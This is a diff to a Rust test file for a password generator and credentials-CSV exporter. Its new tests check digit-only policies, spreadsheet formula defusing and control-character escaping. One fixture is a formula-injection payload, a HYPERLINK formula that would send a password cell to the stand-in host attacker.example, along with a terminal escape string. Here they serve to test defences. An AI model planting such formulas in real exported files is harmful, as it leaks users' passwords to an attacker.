@@ -3,8 +3,8 @@
 #![cfg(not(target_arch = "wasm32"))]
 
 use proget_users_core::generate::{
-    apply_reset, credentials_csv, generate, new_credentials, reset_passwords, GenerateError,
-    PasswordPolicy, AMBIGUOUS, DIGITS, LOWERCASE, NOT_FIRST, SYMBOLS, UPPERCASE,
+    self, apply_reset, credentials_csv, generate, new_credentials, reset_passwords, GenerateError,
+    PasswordPolicy, AMBIGUOUS, DIGITS, LOWERCASE, NOT_FIRST, NUMBER_LIKE, SYMBOLS, UPPERCASE,
 };
 use proget_users_core::model::{User, UsersFile};
 use proget_users_core::{csv, password, write};
@@ -41,7 +41,10 @@ fn the_default_is_20_characters_of_every_class() {
 #[test]
 fn lengths_and_chosen_classes_are_honoured() {
     let cases = [
-        (policy(8, false, false, true, false), DIGITS.to_owned()),
+        (
+            policy(8, false, false, true, true),
+            [DIGITS, SYMBOLS].concat(),
+        ),
         (
             policy(128, true, false, false, true),
             [LOWERCASE, SYMBOLS].concat(),
@@ -113,10 +116,10 @@ fn two_runs_differ() {
     let a = generate(&p).unwrap();
     let b = generate(&p).unwrap();
     assert_ne!(a, b);
-    let digits = policy(8, false, false, true, false);
+    let lower = policy(8, true, false, false, false);
     let many: std::collections::HashSet<String> =
-        (0..100).map(|_| generate(&digits).unwrap()).collect();
-    assert!(many.len() >= 99, "{} distinct of 100", many.len()); // 10^8 choices
+        (0..100).map(|_| generate(&lower).unwrap()).collect();
+    assert!(many.len() >= 99, "{} distinct of 100", many.len()); // 26^8 choices
 }
 
 /// Pearson's chi-square of counts against a uniform expectation.
@@ -267,4 +270,85 @@ fn hashing_in_chunks_elsewhere_gives_the_same_result() {
         Err(GenerateError::UnknownUser("ghost".into()))
     );
     assert_eq!(file, before);
+}
+
+#[test]
+fn a_policy_of_digits_alone_is_refused_and_no_password_reads_as_a_number() {
+    for exclude_ambiguous in [false, true] {
+        let digits = PasswordPolicy {
+            exclude_ambiguous,
+            ..policy(20, false, false, true, false)
+        };
+        assert_eq!(digits.validate(), Err(GenerateError::OnlyDigits));
+        assert_eq!(generate(&digits), Err(GenerateError::OnlyDigits));
+    }
+    assert!(GenerateError::OnlyDigits
+        .to_string()
+        .contains("as well as digits"));
+    let mut file = team();
+    let before = file.clone();
+    assert_eq!(
+        reset_passwords(&mut file, &["jDoe"], &policy(8, false, false, true, false)).unwrap_err(),
+        GenerateError::OnlyDigits
+    );
+    assert_eq!(file, before);
+    // Digits and symbols: a draw of number characters only ("12+3.5,6")
+    // is thrown away, as is one starting with a formula character.
+    let p = policy(8, false, false, true, true);
+    for _ in 0..2000 {
+        let pw = generate(&p).unwrap();
+        assert!(!pw.chars().all(|c| NUMBER_LIKE.contains(c)), "{pw}");
+        assert!(!pw.starts_with(|c| NOT_FIRST.contains(c)), "{pw}");
+    }
+}
+
+#[test]
+fn the_credentials_sheet_defuses_formulas_in_every_cell() {
+    let mut file = UsersFile::new();
+    let mut user = User::new("victim");
+    user.set_display_name(Some(
+        "=HYPERLINK(\"http://attacker.example/?p=\"&D2,\"Click\")".into(),
+    ));
+    user.set_email_address(Some("@evil".into()));
+    file.users.push(user);
+    file.users.push(User::new("-minus"));
+    let (_, sheet) =
+        reset_passwords(&mut file, &["victim", "-minus"], &PasswordPolicy::default()).unwrap();
+    let text = credentials_csv(&sheet);
+    let mut lines = text.split("\r\n");
+    assert_eq!(lines.next(), Some("Name,DisplayName,Email,Password"));
+    // (The password cell follows, quoted if it holds a `,` or `;`.)
+    let line = lines.next().unwrap();
+    assert!(
+        line.starts_with(
+            "victim,\"'=HYPERLINK(\"\"http://attacker.example/?p=\"\"&D2,\"\"Click\"\")\",\"'@evil\","
+        ),
+        "{line}"
+    );
+    assert!(text.contains("\"'-minus\",\"'-minus\",,"));
+    // The passwords themselves are never changed by the defusing. (The
+    // first row's email, "@evil", is a bad row when read back.)
+    let back = csv::parse_csv(&text).unwrap();
+    assert_eq!(back.rows.len(), 1);
+    assert_eq!(back.rows[0].name, "-minus");
+    assert_eq!(
+        back.rows[0].password.as_deref(),
+        Some(sheet[1].password.as_str())
+    );
+}
+
+#[test]
+fn generate_messages_never_carry_control_characters() {
+    let evil = "evil\u{1b}[2J";
+    let shown = [
+        GenerateError::UnknownUser(evil.into()).to_string(),
+        generate::PasswordsReset {
+            users: vec![evil.into()],
+        }
+        .to_string(),
+    ];
+    for text in shown {
+        assert!(text.contains("evil\\u001b[2J"), "{text}");
+        assert!(!text.chars().any(proget_users_core::text::is_unsafe));
+    }
 }
